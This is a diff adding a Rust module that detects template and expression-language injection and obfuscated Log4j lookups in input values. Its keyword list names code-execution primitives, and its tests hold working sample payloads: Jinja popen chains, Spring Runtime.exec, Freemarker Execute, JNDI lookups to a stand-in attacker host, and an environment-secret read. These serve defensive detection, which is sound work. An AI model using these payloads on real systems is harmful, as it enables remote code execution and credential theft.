@@ -1,0 +1,307 @@
+//! Template and expression-language injection by syntax: each template expression in the value
+//! (`{{ }}`, `{% %}`, `${ }`, `#{ }`, `*{ }`, `<% %>`, Freemarker and Velocity directives) is
+//! looked at for what only an attack needs there: object internals (`__class__`), the
+//! engine's globals (`config`, `request`, `cycler`), a type or class lookup (`T(`,
+//! `getClass`, `forName`), arithmetic on literals (the `{{7*7}}` probe) or a call that runs
+//! code. Placeholders (`{{ user.name }}`, `${AWS::Region}`) pass. Log4j lookups are resolved
+//! first (`${${::-j}ndi:` is `${jndi:`), as Log4j itself resolves them.
+
+use super::{Found, Strictness};
+
+const DANGEROUS_NAMES: &[&str] = &[
+    "config",
+    "request",
+    "self",
+    "cycler",
+    "lipsum",
+    "joiner",
+    "namespace",
+    "url_for",
+    "get_flashed_messages",
+    "getclass",
+    "forname",
+    "getruntime",
+    "runtime",
+    "processbuilder",
+    "exec",
+    "system",
+    "popen",
+    "import",
+    "eval",
+    "constructor",
+    "invoke",
+    "subprocess",
+    "child_process",
+    "require",
+    "_self",
+    "getenv",
+    "attr",
+    "mro",
+    "subclasses",
+    "globals",
+    "builtins",
+    "freemarker",
+    "execute",
+    "classloader",
+    "getmethod",
+    "newinstance",
+    "scriptengine",
+    "ognl",
+    "memberaccess",
+    "defineclass",
+    "jndi",
+    "objectconstructor",
+];
+
+fn dangerous(expr: &str) -> Option<&'static str> {
+    let lower = expr.to_ascii_lowercase();
+    if lower.contains("__") {
+        return Some("object internals in a template expression");
+    }
+    if lower.contains('`') {
+        return Some("a shell command in a template expression");
+    }
+    let idents = lower.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'));
+    for id in idents {
+        if DANGEROUS_NAMES.contains(&id) {
+            return Some("engine globals or code execution in a template expression");
+        }
+    }
+    let t = lower.trim_start_matches(['=', '-', '#', ' ']);
+    if t.starts_with("t(")
+        || t.starts_with("t (")
+        || lower.contains("?new(")
+        || lower.contains(".class")
+    {
+        return Some("a class lookup in an expression");
+    }
+    if arithmetic_probe(&lower) {
+        return Some("arithmetic on literals (a template-injection probe)");
+    }
+    None
+}
+
+/// `7*7`, `7 * '7'`, `191*7`: two literals and an operator, the canonical probe.
+fn arithmetic_probe(expr: &str) -> bool {
+    let t: String = expr
+        .chars()
+        .filter(|c| !c.is_whitespace() && !matches!(c, '\'' | '"' | '-' | '='))
+        .collect();
+    let Some(op) = t.find(['*', '+', '/']) else {
+        return false;
+    };
+    let (a, b) = (&t[..op], &t[op + 1..]);
+    !a.is_empty()
+        && !b.is_empty()
+        && a.bytes().all(|c| c.is_ascii_digit())
+        && b.bytes().all(|c| c.is_ascii_digit())
+}
+
+/// Log4j lookups resolved to a fixed point: `${lower:J}`, `${::-j}`, `${env:X:-j}` become `j`.
+fn resolve_lookups(value: &str) -> String {
+    let mut current = value.to_string();
+    for _ in 0..8 {
+        let mut out = String::with_capacity(current.len());
+        let mut changed = false;
+        let mut rest = current.as_str();
+        while let Some(open) = rest.find("${") {
+            let inner_start = open + 2;
+            let b = rest.as_bytes();
+            // The first `}` or `${` after the opener, found in one pass: a nested opener
+            // restarts from there, so the round stays linear.
+            let mut j = inner_start;
+            let stop = loop {
+                match b.get(j) {
+                    None => break None,
+                    Some(b'}') => break Some((j, true)),
+                    Some(b'$') if b.get(j + 1) == Some(&b'{') => break Some((j, false)),
+                    _ => j += 1,
+                }
+            };
+            match stop {
+                Some((c, true)) => {
+                    let inner = &rest[inner_start..c];
+                    let resolved = if let Some((_, default)) = inner.split_once(":-") {
+                        Some(default.to_string())
+                    } else {
+                        inner
+                            .strip_prefix("lower:")
+                            .or_else(|| inner.strip_prefix("upper:"))
+                            .map(str::to_ascii_lowercase)
+                    };
+                    out.push_str(&rest[..open]);
+                    match resolved {
+                        Some(r) => {
+                            out.push_str(&r);
+                            changed = true;
+                        }
+                        None => out.push_str(&rest[open..=c]),
+                    }
+                    rest = &rest[c + 1..];
+                }
+                Some((n, false)) => {
+                    out.push_str(&rest[..n]);
+                    rest = &rest[n..];
+                }
+                None => break,
+            }
+        }
+        out.push_str(rest);
+        if !changed {
+            return out;
+        }
+        current = out;
+    }
+    current
+}
+
+const OPENERS: &[(&str, &str)] = &[
+    ("{{", "}}"),
+    ("{%", "%}"),
+    ("${", "}"),
+    ("#{", "}"),
+    ("*{", "}"),
+    ("@{", "}"),
+    ("<%", "%>"),
+    ("<#", ">"),
+    ("#set(", ")"),
+    ("[[", "]]"),
+];
+
+pub fn detect(value: &str, _strictness: Strictness) -> Option<Found> {
+    if !value.contains(['{', '%', '#', '[']) {
+        return None;
+    }
+    let found = |at: usize, what: &'static str| {
+        Found::new(
+            "template-expression",
+            "code-injection",
+            what,
+            value,
+            at.saturating_sub(8),
+        )
+    };
+    if value.contains("${") {
+        let resolved = resolve_lookups(value).to_ascii_lowercase();
+        for lookup in [
+            "${jndi:",
+            "${env:",
+            "${sys:",
+            "${java:",
+            "${ctx:",
+            "${main:",
+            "${spring:",
+            "${k8s:",
+            "${docker:",
+            "${bundle:",
+            "${sd:",
+            "${web:",
+            "${base64:",
+        ] {
+            if let Some(at) = resolved.find(lookup) {
+                return Some(Found::new(
+                    "log4j-lookup",
+                    "code-injection",
+                    "a Log4j lookup (JNDI or environment disclosure)",
+                    &resolved,
+                    at,
+                ));
+            }
+        }
+    }
+    // Innermost expressions only: each closer pairs with the nearest opener before it, so
+    // the work stays linear however the delimiters nest.
+    let b = value.as_bytes();
+    let mut open: Option<(usize, usize, &str)> = None;
+    let mut i = 0;
+    while i < b.len() {
+        if let Some((o, c)) = OPENERS
+            .iter()
+            .find(|(o, _)| b[i..].starts_with(o.as_bytes()))
+        {
+            open = Some((i, i + o.len(), c));
+            i += o.len();
+            continue;
+        }
+        if let Some((at, start, closer)) = open {
+            if b[i..].starts_with(closer.as_bytes()) {
+                let expr = &value[start..i];
+                if expr.len() <= 2048 {
+                    if let Some(what) = dangerous(expr) {
+                        return Some(found(at, what));
+                    }
+                }
+                open = None;
+                i += closer.len();
+                continue;
+            }
+        }
+        i += 1;
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn hit(v: &str) -> bool {
+        detect(v, Strictness::Generic).is_some()
+    }
+
+    #[test]
+    fn injections() {
+        for v in [
+            "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
+            "{{7*7}}",
+            "${7*7}",
+            "#{7*7}",
+            "*{7*7}",
+            "<%= 7 * 7 %>",
+            "<%= `id` %>",
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "${jndi:ldap://attacker.example/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
+            "${${lower:J}ndi:rmi://x/a}",
+            "${${env:NOPE:-j}ndi:dns://x}",
+            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+            "#set($x = $class.inspect(\"java.lang.Runtime\"))",
+            "{{ request.application.__globals__ }}",
+            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+            "{% import os %}{{ os.system('id') }}",
+            "{{''.__class__.__mro__[1].__subclasses__()}}",
+            "${env:AWS_SECRET_ACCESS_KEY}",
+            "{{#with \"s\" as |string|}}{{#with string.constructor}}{{/with}}{{/with}}",
+        ] {
+            assert!(hit(v), "missed: {v}");
+        }
+    }
+
+    #[test]
+    fn placeholders() {
+        for v in [
+            "{{ user.name }}",
+            "Hello {{name}}, welcome!",
+            "${AWS::Region}",
+            "{{ price | currency }}",
+            "Dear ${firstName} ${lastName}",
+            "#{orderId}",
+            "{% if user %}Hi{% endif %}",
+            "Use {{ }} for placeholders",
+            "Total: ${total}",
+            "See [[Main Page]]",
+            "{{ 'Hello' }}",
+            "{{ items.length }} items",
+        ] {
+            assert!(!hit(v), "false positive: {v}");
+        }
+    }
+
+    #[test]
+    fn nested_delimiters_stay_linear() {
+        let v = "{{".repeat(50_000) + &"}}".repeat(50_000);
+        assert!(!hit(&v));
+        let v = "${".repeat(50_000);
+        assert!(!hit(&v));
+    }
+}
